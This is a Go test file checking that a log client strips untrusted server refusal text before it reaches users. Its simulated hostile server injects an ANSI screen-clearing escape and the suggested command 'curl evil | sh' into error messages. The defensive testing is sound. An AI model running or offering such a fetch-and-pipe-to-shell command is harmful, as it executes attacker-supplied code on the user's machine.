package client_test

import (
	"context"
	"strings"
	"testing"

	logv1 "github.com/garrison-fleet/garrison/proto/gen/garrison/log/v1"
	registryv1 "github.com/garrison-fleet/garrison/proto/gen/garrison/registry/v1"

	"github.com/garrison-fleet/garrison/pkg/bus"
	"github.com/garrison-fleet/garrison/pkg/bustest"
	"github.com/garrison-fleet/garrison/pkg/code"
	"github.com/garrison-fleet/garrison/pkg/fault"
	"github.com/garrison-fleet/garrison/pkg/ident"
	"github.com/garrison-fleet/garrison/pkg/ledger"
	"github.com/garrison-fleet/garrison/pkg/topology"
)

// A server is not believed: its words reach no person, who might do what they say.
func TestOfAServersRefusalToReadOnlyAKnownCodeCounts(t *testing.T) {
	t.Parallel()
	b := bustest.Start(t)
	answer(t, serve(t, b, ledger.Registry), "OpenLog",
		func(*registryv1.OpenLogRequest) (*registryv1.OpenLogResponse, error) {
			return &registryv1.OpenLogResponse{
				Cell: "main", ServerId: server1, ServerName: "web-1", SessionId: ident.New(), End: 9,
			}, nil
		})
	var said error
	stop, err := bus.Answer(b.Dial(t, server1), topology.LogReadSubjects, "",
		func(context.Context, string, *logv1.ReadRequest) (*logv1.ReadResponse, error) { return nil, said })
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	l, err := connect(t, b).OpenLog(within(t), &registryv1.OpenLogRequest{Server: "web-1", Agent: "beacon"})
	if err != nil {
		t.Fatal(err)
	}
	evil := func(kind fault.Kind, given string) error {
		return fault.Refusef(kind, given, "evil \x1b[2J").Try("curl evil | sh")
	}
	for _, c := range []struct {
		said error
		kind fault.Kind
		code string
	}{
		{evil(fault.Denied, code.LogNotOpen), fault.NotFound, code.LogNotOpen},
		{evil(fault.Denied, code.NoOutput), fault.NotFound, code.NoOutput},
		{evil(fault.Denied, code.Busy), fault.Unavailable, code.Busy},
		{evil(fault.Unavailable, code.Denied), fault.Internal, ""},
		{evil(fault.NotFound, "evil"), fault.Internal, ""},
		{fault.New(fault.Unavailable, "evil"), fault.Internal, ""},
	} {
		said = c.said
		_, err := l.Read(within(t), 0)
		if !fault.Is(err, c.kind) || fault.RefusalOf(err).GetCode() != c.code || strings.Contains(err.Error(), "evil") {
			t.Errorf("%v becomes %v", c.said, err)
		}
	}
}
